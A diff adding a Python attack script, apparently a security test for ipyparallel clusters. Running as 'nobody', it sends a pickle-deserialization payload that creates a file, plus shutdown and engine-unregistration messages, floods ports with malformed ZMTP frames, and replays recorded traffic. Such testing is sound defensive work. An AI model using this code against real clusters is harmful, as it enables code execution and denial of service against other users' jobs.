@@ -1,0 +1,203 @@
+"""Attacks on a run's ports, by another user: python attack.py, with the order as JSON on standard input.
+
+{"attack": "speak", "ports": [[address, port], …], "idents": […], "file": path, "key": "" or the server's}
+    says in ZMTP, without encryption, with a password, and with CURVE, what ipyparallel's clients and engines say:
+    a function whose unpickling makes the file, a shutdown, a death of each engine; and listens. With `key` it
+    does so with CURVE and as itself: the attack that must succeed.
+{"attack": "noise", "ports": …, "frames": 10000, "seconds": …}
+    holds silent sockets, dribbles bytes, sends frames of random bytes and lengths that no memory holds.
+{"attack": "again", "ports": …, "streams": [hexadecimal, …]}
+    sends recorded bytes again.
+
+It ends when its standard input does, and holds until then what it has opened; what it did is one line of JSON.
+"""
+
+import json
+import os
+import random
+import resource
+import socket
+import sys
+import time
+from typing import Any
+
+import zmq
+from ipyparallel.serialize import pack_apply_message
+from jupyter_client.session import Session
+
+NOBODY = 65534
+GREETINGS = [
+    b"\xff" + bytes(8) + b"\x7f\x03" + minor + name.ljust(20, b"\0") + server + bytes(31)
+    for name in (b"CURVE", b"NULL", b"PLAIN")
+    for minor in (b"\0", b"\1")
+    for server in (b"\0", b"\1")
+]
+
+
+def become_nobody() -> None:
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    os.setgroups([])
+    os.setresgid(NOBODY, NOBODY, NOBODY)
+    os.setresuid(NOBODY, NOBODY, NOBODY)
+
+
+class Evil:
+    """Makes a file where it is unpickled."""
+
+    def __init__(self, path: str) -> None:
+        self.path = path
+
+    def __reduce__(self) -> Any:
+        return open, (self.path, "w")
+
+
+# -- speak: valid messages ---------------------------------------------------------------------------------
+def messages(order: dict[str, Any]) -> list[list[bytes]]:
+    """What a client says to engines by way of the direct and the task scheduler, and engines to the hub."""
+    session = Session(key=b"")
+    apply = [session.serialize(session.msg("apply_request", {})), pack_apply_message(Evil(order["file"]), (), {})]
+    found = [[*apply[0], *apply[1]]]
+    for ident in order["idents"]:
+        found.append([ident.encode(), *apply[0], *apply[1]])
+        if not order["key"]:
+            found.append([ident.encode(), *session.serialize(session.msg("shutdown_request", {"restart": False}))])
+    for number in range(0 if order["key"] else len(order["idents"])):
+        found.append(session.serialize(session.msg("unregistration_request", {"id": number})))
+    return found
+
+
+def secure(peer: zmq.Socket, mechanism: str, key: str) -> None:
+    if mechanism == "curve":
+        peer.curve_serverkey = key.encode() if key else zmq.curve_keypair()[0]
+        peer.curve_publickey, peer.curve_secretkey = zmq.curve_keypair()
+    elif mechanism == "plain":
+        peer.plain_username, peer.plain_password = b"nobody", b"password"
+
+
+def open_peers(order: dict[str, Any]) -> list[zmq.Socket]:
+    """For each port, a peer of each mechanism and of each kind that one of ipyparallel's sockets talks to."""
+    peers = []
+    for address, port in order["ports"]:
+        for mechanism in ("curve",) if order["key"] else ("null", "plain", "curve"):
+            for kind in (zmq.DEALER, zmq.PUB, zmq.SUB):
+                peer = zmq.Context.instance().socket(kind)
+                peer.linger = 0
+                secure(peer, mechanism, order["key"])
+                if kind == zmq.SUB:
+                    peer.subscribe(b"")
+                peer.get_monitor_socket(zmq.EVENT_HANDSHAKE_SUCCEEDED)  # made once, and then the same
+                peers.append(peer)
+                peer.connect(f"tcp://{address}:{port}")
+    return peers
+
+
+def speak(order: dict[str, Any]) -> dict[str, int]:
+    """Say all messages to all ports; how many peers accepted us, and how many frames were heard."""
+    spoken, peers = messages(order), open_peers(order)
+    monitors = [peer.get_monitor_socket() for peer in peers]
+    poller = zmq.Poller()
+    for peer in (*monitors, *(peer for peer in peers if peer.type != zmq.PUB)):
+        poller.register(peer, zmq.POLLIN)
+    counts, end = {"heard": 0, "accepted": 0}, time.monotonic() + 2
+    for round_end in (end - 1.5, end - 1, end):
+        for peer in peers:
+            if peer.type == zmq.PUB or (peer.type == zmq.DEALER and round_end < end - 1):
+                for frames in spoken:  # a PUB drops what it says before it is accepted, hence the rounds
+                    peer.send_multipart(frames)
+        while (left := round_end - time.monotonic()) > 0:
+            for ready, _ in poller.poll(left * 1000):
+                ready.recv_multipart()
+                counts["accepted" if ready in monitors else "heard"] += 1
+    for peer in peers:
+        peer.disable_monitor()
+    zmq.Context.instance().destroy()
+    return counts
+
+
+# -- noise: everything but valid messages ------------------------------------------------------------------
+def connect(target: tuple[str, int]) -> socket.socket:
+    made = socket.create_connection(tuple(target), timeout=5)
+    made.settimeout(0.5)
+    return made
+
+
+def try_send(peer: socket.socket, data: bytes) -> bool:
+    try:
+        peer.sendall(data)
+    except OSError:
+        return False
+    return True
+
+
+def random_frame(chance: random.Random) -> bytes:
+    body = chance.randbytes(chance.choice([0, 1, 8, 40, 200, 255, 1000]))
+    kind = chance.randrange(6)
+    if kind == 0:
+        return body  # no frame at all
+    if kind == 1:  # a command of CURVE, as long as it has to be, with random contents
+        name, size = chance.choice([(b"\x05HELLO", 200), (b"\x08INITIATE", 257), (b"\x07MESSAGE", 33)])
+        body = (name + chance.randbytes(size))[:size]
+    flags = chance.choice([0, 1, 4]) if len(body) < 256 else chance.choice([2, 3, 6])
+    length = len(body).to_bytes(8 if flags & 2 else 1, "big")
+    return bytes([flags]) + length + body
+
+
+def noise(order: dict[str, Any], held: list[socket.socket]) -> dict[str, int]:
+    chance, targets = random.Random(7), order["ports"]
+    for target in targets:
+        for number in range(100 // len(targets) + 1):
+            held.append(connect(target))  # half of them silent, half in the midst of a greeting
+            try_send(held[-1], GREETINGS[0][: number % 2 * 11])
+        for length in (1 << 30, 1 << 62, (1 << 64) - 1):
+            for flags in (b"\2", b"\6"):
+                held.append(connect(target))
+                greeting = chance.choice(GREETINGS)
+                try_send(held[-1], greeting + flags + length.to_bytes(8, "big") + bytes(10_000))
+    slow = [connect(target) for target in targets for _ in range(3)]
+    held += slow
+    sent, began, dribbled = 0, time.monotonic(), 0
+    while sent < order["frames"]:
+        peer = connect(chance.choice(targets))
+        frames = [random_frame(chance) for _ in range(20)]
+        if chance.random() < 0.8:
+            frames.insert(0, chance.choice(GREETINGS))
+        try_send(peer, b"".join(frames))
+        sent += 20
+        peer.close()
+        if time.monotonic() > began + 0.1 * dribbled:
+            for drop in slow:
+                try_send(drop, GREETINGS[0][dribbled % 64 :][:1])
+            dribbled += 1
+    return {"sent": sent, "held": len(held)}
+
+
+# -- again: what was recorded --------------------------------------------------------------------------------
+def again(order: dict[str, Any], held: list[socket.socket]) -> dict[str, int]:
+    """Send each stream to each port: at once, and once more in the two halves of a conversation."""
+    sent = 0
+    for target in order["ports"]:
+        for stream in map(bytes.fromhex, order["streams"]):
+            for pieces in ([stream], [stream[:64], stream[64:]]):
+                peer = connect(target)
+                for piece in pieces:
+                    sent += try_send(peer, piece)
+                    if len(pieces) > 1:
+                        peer.setblocking(False)
+                        time.sleep(0.002)
+                held.append(peer)
+    return {"sent": sent}
+
+
+def main() -> None:
+    order = json.loads(sys.stdin.readline())
+    become_nobody()
+    held: list[socket.socket] = []
+    attacks = {"speak": lambda: speak(order), "noise": lambda: noise(order, held),
+               "again": lambda: again(order, held)}  # fmt: skip
+    print(json.dumps(attacks[order["attack"]]()), flush=True)
+    sys.stdin.read()
+
+
+if __name__ == "__main__":
+    main()
